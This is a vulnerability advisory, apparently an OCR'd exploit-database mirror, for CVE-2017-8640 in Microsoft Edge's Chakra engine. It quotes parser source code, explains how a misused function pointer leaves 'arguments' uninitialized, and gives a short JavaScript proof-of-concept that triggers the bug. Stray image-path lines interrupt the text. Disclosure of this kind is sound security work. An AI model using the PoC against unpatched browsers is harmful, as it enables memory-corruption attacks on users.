Microsoft Edge: Chakra: Uninitialized arguments CVE-2017-8640 Here's a snippet of "ParseVariableDeclaration" which is used for parsing declarations. template ParseNodePtr Parser::ParseVariableDeclaration( tokens declarationType, charcount_t ichMin, BOOL fAllowIn/* = TRUE*/, BOOL* pfForInOk/* = nullptr*/, BOOL singleDefOnly/* = FALSE*/, BOOL allowInit/* = TRUE*/, BOOL isTopVarParse/* = TRUE*/, BOOL isFor/* = FALSE*/, BOOL*nativeForOk /*= nullptr*/) { ... if (pid == wellKnownPropertyPids.arguments && m_currentNodeFunc) { // This var declaration maychange the way an 'arguments' identifier in the function is resolved if (declarationType == tkVAR) { m_currentNodeFunc->grfpn |= PNodeFlags::fpnArguments_varDeclaration; } else { if (GetCurrentBlockInfo()->pnodeBlock->sxBlock.blockType == Function) { // Only override arguments if we are at the function block level. m_currentNodeFunc->grfpn |= PNodeFlags::fpnArguments_overriddenByDecl; } } } ... } "m_currentNodeFunc" is only replaced when "buildAST" is true. So I think it's not supposed to use "m_currentNodeFunc" when "buildAST" is false. But the above code is using it regardless of "buildAST". So it may change a wrong function's "grfpn" flag. What I noticed is the "PNodeFlags::fpnArguments_overriddenByDecl" flag which makes the function's arguments uninitialized. PoC: function f() { ({a = () => { let arguments; }} = 1); arguments.x; } f(); This bug is subject to a 90 day disclosure deadline. After 90 days elapse or a patch has been made broadly available,the bug report will become visible to the public. Found by:lokihardt # Iranian ExploitDataBase = http://IeDb.Ir [2017-08-17]